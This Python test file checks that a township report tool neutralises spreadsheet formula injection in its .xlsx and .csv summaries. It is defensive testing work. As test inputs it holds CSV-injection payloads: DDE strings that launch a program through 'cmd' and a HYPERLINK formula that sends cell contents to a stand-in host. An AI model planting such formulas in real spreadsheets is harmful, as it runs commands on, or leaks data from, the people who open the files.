"""Spreadsheet cells from townships' files never run as formulas (issue 21).

A unit name, a 数据 name, a file name or a problem quoted from a broken file may begin with
``=``, ``+``, ``-`` or ``@``: the .xlsx holds it as text (no formula anywhere, the exact text
shown), the .csv begins such a cell with an apostrophe (OWASP), and numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from .conftest import Invoke
from .libreoffice import calc_as_csv, soffice_or_skip

#: What a spreadsheet reads as the start of a formula (OWASP).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: What a hostile or careless sender writes where a name goes.
HOSTILE_UNIT = '=HYPERLINK("http://example.invalid/?"&A1,"点此核对")'
HOSTILE_NAMES = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
)


def _units(folder: Path) -> Path:
    folder.mkdir()
    figures = "".join(f'  "{name}": {i + 1}件\n' for i, name in enumerate(HOSTILE_NAMES))
    (folder / "a.yaml").write_text(
        f"单位: '{HOSTILE_UNIT}'\n年度: 2024\n成文日期: 2025-02-20\n数据:\n{figures}"
        "  调解矛盾纠纷: 12起\n",
        encoding="utf-8",
    )
    (folder / "b.yaml").write_text(
        "单位: 乙镇人民政府\n年度: 2024\n成文日期: 2025-02-20\n数据:\n  调解矛盾纠纷: 30起\n",
        encoding="utf-8",
    )
    # A broken file whose problem quotes a formula: the 问题 sheet and its file-name column.
    (folder / "=1+1.yaml").write_text(
        '单位: 丙镇人民政府\n年度: 2024\n成文日期: 2025-02-20\n"=2+2": 1\n', encoding="utf-8"
    )
    return folder


def _summary(invoke: Invoke, tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(_units(tmp_path / "units"))  # the 问题 sheet names the file as =1+1.yaml
    out = tmp_path / f"汇总.{fmt}"
    code, _, err = invoke("summary", ".", "-o", out)
    assert code == 1 and "=1+1.yaml" in err  # the broken file fails the run, the table is written
    return out


def test_the_workbook_holds_no_formula_and_shows_the_exact_text(
    invoke: Invoke, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from openpyxl import load_workbook

    book = load_workbook(_summary(invoke, tmp_path, "xlsx", monkeypatch))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {HOSTILE_UNIT, *HOSTILE_NAMES} <= texts  # 汇总's rows and header, 指标's rows
    hostile = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "@"))]
    assert {c.parent.title for c in hostile} >= {"汇总", "指标", "问题"}
    assert all(c.quotePrefix for c in hostile)
    header = [c.value for c in book["汇总"][1]]
    assert set(HOSTILE_NAMES) <= set(header)
    row = next(r for r in book["汇总"].iter_rows(min_row=2) if r[0].value == HOSTILE_UNIT)
    figure = row[header.index("调解矛盾纠纷")]
    assert figure.value == 12 and figure.data_type == "n"  # numbers stay numbers


def test_every_csv_cell_that_would_be_a_formula_begins_with_an_apostrophe(
    invoke: Invoke, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = _summary(invoke, tmp_path, "csv", monkeypatch).read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert {"'" + HOSTILE_UNIT, *("'" + n for n in HOSTILE_NAMES)} <= set(cells)
    assert all(line.startswith('"') for line in data.splitlines())  # every field quoted
    unit = next(row for row in rows if row[0] == "'" + HOSTILE_UNIT)
    assert unit[rows[0].index("调解矛盾纠纷")] == "12起"


def test_libreoffice_shows_the_text_and_runs_nothing(
    invoke: Invoke, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Opened by a spreadsheet program, the cell reads as written: nothing was evaluated."""
    soffice = soffice_or_skip()
    book = _summary(invoke, tmp_path, "xlsx", monkeypatch)
    rows = calc_as_csv(soffice, book, tmp_path / "shown")
    assert HOSTILE_UNIT in [row[0] for row in rows]
    assert set(HOSTILE_NAMES) <= set(rows[0])


@given(st.text(max_size=12))
def test_a_neutralised_cell_is_never_a_formula_and_keeps_its_text(text: str) -> None:
    from fazhi_report.writers.summary.cells import csv_text, formula_like

    cell = csv_text(text)
    assert cell == text or cell == "'" + text
    assert not formula_like(cell)
    if text.startswith(("=", "@")):
        assert cell == "'" + text


def test_plain_numbers_are_not_formulas() -> None:
    from fazhi_report.writers.summary.cells import csv_text

    assert [csv_text(t) for t in ("-3", "+5%", "1,200.5", "2300余起")] == [
        "-3",
        "+5%",
        "1,200.5",
        "2300余起",
    ]
    assert csv_text("-3+A1") == "'-3+A1" and csv_text("\t=1") == "'\t=1"
